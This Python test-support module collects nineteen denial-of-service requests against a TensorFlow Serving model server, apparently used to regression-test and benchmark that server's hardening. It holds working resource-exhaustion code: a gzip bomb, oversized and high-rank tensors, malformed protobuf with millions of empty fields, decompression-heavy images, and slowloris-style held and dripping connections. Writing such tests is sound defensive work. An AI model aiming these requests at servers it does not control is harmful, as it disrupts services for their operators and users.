"""Requests that once ended the server, or became gigabytes: small ones, held ones, slow ones.

Each takes a `Target`, and answers what came of it in a word. Used by test_attacks.py, and by hand
for the table of docs/benchmarks.md.
"""

from __future__ import annotations

import contextlib
import gzip
import http.client
import io
import json
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable, Sequence
from concurrent import futures

import grpc
import numpy as np
import tensorflow as tf
from tensorflow.core.framework import tensor_pb2, types_pb2
from tensorflow_serving.apis import get_model_status_pb2, model_service_pb2_grpc, predict_pb2

PREDICT = "/tensorflow.serving.PredictionService/Predict"
PATH = "/v1/models/tfhash:predict"
PATIENCE = 60
_OPTIONS = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]


class Target:
    """A server: its addresses, HOST:PORT. message: bytes that it takes of one. rows: many."""

    def __init__(
        self, grpc_address: str, rest_address: str, message: int = 64 * 2**20, rows: int = 10**6
    ):
        self.address, self.rest_address = grpc_address, rest_address
        self.message, self.rows = message, rows
        self.channel = grpc.insecure_channel(grpc_address, _OPTIONS)

    def predict(self, message: bytes, timeout: float = PATIENCE) -> str:
        """The status of a Predict of these bytes."""
        try:
            self.channel.unary_unary(PREDICT)(message, timeout=timeout)
        except grpc.RpcError as error:
            return error.code().name
        return "OK"

    def rest(self, body: bytes, **headers: str) -> str:
        """The status of a POST."""
        connection = http.client.HTTPConnection(self.rest_address, timeout=PATIENCE)
        with contextlib.closing(connection):
            try:
                connection.request("POST", PATH, body, headers)
                return str(connection.getresponse().status)
            except OSError as error:  # it may answer before all is sent, and close
                return type(error).__name__

    def raw(self) -> socket.socket:
        host, port = self.rest_address.rsplit(":", 1)
        return socket.create_connection((host, int(port)), timeout=PATIENCE)

    def status_seconds(self) -> float:
        """How long GetModelStatus and GET take together."""
        start = time.perf_counter()
        request = get_model_status_pb2.GetModelStatusRequest(model_spec={"name": "tfhash"})
        stub = model_service_pb2_grpc.ModelServiceStub(self.channel)
        stub.GetModelStatus(request, timeout=PATIENCE)
        connection = http.client.HTTPConnection(self.rest_address, timeout=PATIENCE)
        with contextlib.closing(connection):
            connection.request("GET", "/v1/models/tfhash")
            assert connection.getresponse().status == 200
        return time.perf_counter() - start

    def status(self) -> str:
        seconds = self.status_seconds()
        return f"status {'late' if seconds > 10 else 'in time'}, {seconds:.1f} s"


def at_once(count: int, call: Callable[[], str]) -> str:
    """The answers to as many calls at the same time, counted."""
    with futures.ThreadPoolExecutor(count) as pool:
        answers = Counter(one.result() for one in [pool.submit(call) for _ in range(count)])
    return ", ".join(f"{answer} {count}" for answer, count in answers.most_common())


def proto(dtype: str, shape: Sequence[int], **values) -> tensor_pb2.TensorProto:
    tensor = tensor_pb2.TensorProto(dtype=types_pb2.DataType.Value(f"DT_{dtype}"), **values)
    for size in shape:
        tensor.tensor_shape.dim.add(size=size)
    return tensor


def request(signature: str, **inputs: tensor_pb2.TensorProto) -> bytes:
    message = predict_pb2.PredictRequest(output_filter=["code"])
    message.model_spec.name, message.model_spec.signature_name = "tfhash", signature
    for name, tensor in inputs.items():
        message.inputs[name].CopyFrom(tensor)
    return message.SerializeToString()


def pixels(shape: Sequence[int], **values) -> bytes:
    return request("encode_images", images=proto("UINT8", shape, **(values or {"int_val": [7]})))


def files(shape: Sequence[int], *content: bytes, signature: str = "encode_bytes") -> bytes:
    return request(signature, image_bytes=proto("STRING", shape, string_val=content))


def body(instances: object, signature: str = "encode_images") -> bytes:
    return json.dumps({"signature_name": signature, "instances": instances}).encode()


def png(height: int = 1, width: int = 1) -> bytes:
    return tf.io.encode_png(np.zeros((height, width, 3), np.uint8)).numpy()


def many_scans(scans: int, side: int = 512) -> bytes:
    """A progressive JPEG whose last scan stands there as often."""
    from PIL import Image

    file = io.BytesIO()
    noise = np.random.default_rng(0).integers(0, 256, (side, side, 3), np.uint8)
    Image.fromarray(noise).save(file, "JPEG", progressive=True, quality=5)
    content = file.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:last] + content[last:-2] * scans + content[-2:]


def rank_33(target: Target) -> str:
    return target.predict(files([1] * 33, b"a"))


def rank_33_rest(target: Target) -> str:
    nested: object = "a"
    for _ in range(33):
        nested = [nested]
    return target.rest(body(nested, "encode_bytes"))


def million_images(target: Target) -> str:
    """Or a tenth: `rows` of the target."""
    return target.predict(pixels([target.rows, 1, 1, 3], tensor_content=bytes(3 * target.rows)))


def long_string(target: Target) -> str:
    return target.rest(body(["x" * 10**6, *[""] * 499]))


def repeated_png(target: Target) -> str:
    return target.predict(files([60_000], png()))


def wide_image(target: Target) -> str:
    return target.predict(pixels([1, 1, 5_592_405, 3]))


def many_rows(target: Target) -> str:
    return target.predict(pixels([5_592_405, 1, 1, 3]))


def repeated_string(target: Target) -> str:
    return target.predict(files([4000], b"x" * 10**6))


def empty_strings(target: Target) -> str:
    head = b'{"signature_name": "encode_bytes", "instances": [""'
    return target.rest(head + b',""' * 10**6 + b"]}")


def empty_lists(target: Target) -> str:
    return target.rest(b'{"instances": [[]' + b",[]" * (target.message // 3 - 20) + b"]}")


def empty_fields(target: Target) -> str:
    """Each two bytes are a dimension of a tensor."""
    return target.predict(_dimensions(target))


def behind_a_group(target: Target) -> str:
    """The same behind the start and the end of a group, which protobuf reads over."""
    return target.predict(b"\xa3\x06\xa4\x06" + _dimensions(target))


def _dimensions(target: Target) -> bytes:
    dimensions = b"\x12\x00" * (target.message // 2 - 100)
    shape = _field(2, dimensions)
    return _field(2, _field(1, b"images") + _field(2, shape))


def _field(number: int, content: bytes) -> bytes:
    size, length = bytearray(), len(content)
    while length > 127:
        size.append(length & 127 | 128)
        length >>= 7
    return bytes([number << 3 | 2]) + bytes([*size, length]) + content


def gzip_bomb(target: Target) -> str:
    bomb = gzip.compress(bytes(8 * target.message))
    return at_once(8, lambda: target.rest(bomb, **{"Content-Encoding": "gzip"}))


def large_photos(target: Target) -> str:
    """40 million pixels each, in a file of 120 KB."""
    photo = png(5000, 8000)
    return at_once(8, lambda: target.predict(files([2], photo)))


def held_bodies(target: Target) -> str:
    """Nearly whole, and held for a while."""
    size = target.message - 2 * 2**20
    head = f"POST {PATH} HTTP/1.1\r\nHost: a\r\nContent-Length: {target.message}\r\n\r\n".encode()

    def hold() -> str:
        with target.raw() as connection, contextlib.suppress(OSError):
            connection.settimeout(5)
            connection.sendall(head + bytes(size))
            time.sleep(2)
            return "held"
        return "refused"

    return at_once(20, hold)


def head_only(target: Target) -> str:
    """Calls of every kind whose message never comes; then a status."""
    methods = [PREDICT] * 8
    methods += ["/tensorflow.serving.ModelService/GetModelStatus"] * 8
    never = threading.Event()

    def messages():
        never.wait(PATIENCE)
        yield from ()

    channels = [grpc.insecure_channel(target.address) for _ in methods]
    calls = [
        channel.stream_unary(method).future(messages(), timeout=PATIENCE)
        for channel, method in zip(channels, methods, strict=True)
    ]
    time.sleep(1)
    try:
        return target.status()
    except grpc.RpcError as error:
        return f"no status: {error.code().name}"
    finally:
        never.set()
        for call, channel in zip(calls, channels, strict=True):
            call.cancel()
            channel.close()


def dripping_posts(target: Target) -> str:
    """128 that send a byte now and then; then a status."""
    with contextlib.ExitStack() as opened:
        sockets = [opened.enter_context(target.raw()) for _ in range(128)]
        for connection in sockets:
            connection.sendall(
                f"POST {PATH} HTTP/1.1\r\nHost: a\r\nContent-Length: 1000\r\n\r\n{{".encode()
            )
        time.sleep(1)
        try:
            return target.status()
        except (AssertionError, OSError, grpc.RpcError):
            return "no status"


def thousand_gets(target: Target) -> str:
    """All connect before the first sends."""
    answered = Counter()
    with contextlib.ExitStack() as opened:
        sockets = []
        for _ in range(1000):
            host, port = target.rest_address.rsplit(":", 1)
            connection = opened.enter_context(socket.socket())
            connection.setblocking(False)
            connection.connect_ex((host, int(port)))
            sockets.append(connection)
        time.sleep(0.5)
        for connection in sockets:
            connection.settimeout(5)
            try:
                connection.sendall(b"GET /v1/models/tfhash HTTP/1.1\r\nHost: a\r\n\r\n")
                answered[connection.recv(12)[-3:].decode()] += 1
            except OSError as error:
                answered[type(error).__name__] += 1
    return ", ".join(f"{answer} {count}" for answer, count in answered.most_common())


def scans(target: Target) -> str:
    """Eight images of some thousand scans each; a status while they are decoded."""
    message = files([1], many_scans(3000))
    done: list[str] = []
    attack = threading.Thread(
        target=lambda: done.append(at_once(16, lambda: target.predict(message, 3)))
    )
    attack.start()
    time.sleep(4)
    status = target.status()
    attack.join()
    return f"{done[0]}; {status}"


ATTACKS: tuple[Callable[[Target], str], ...] = (
    rank_33, rank_33_rest, million_images, long_string, repeated_png, wide_image, many_rows,
    repeated_string, empty_strings, empty_lists, empty_fields, behind_a_group, gzip_bomb,
    large_photos, held_bodies, head_only, dripping_posts, thousand_gets, scans,
)  # fmt: skip
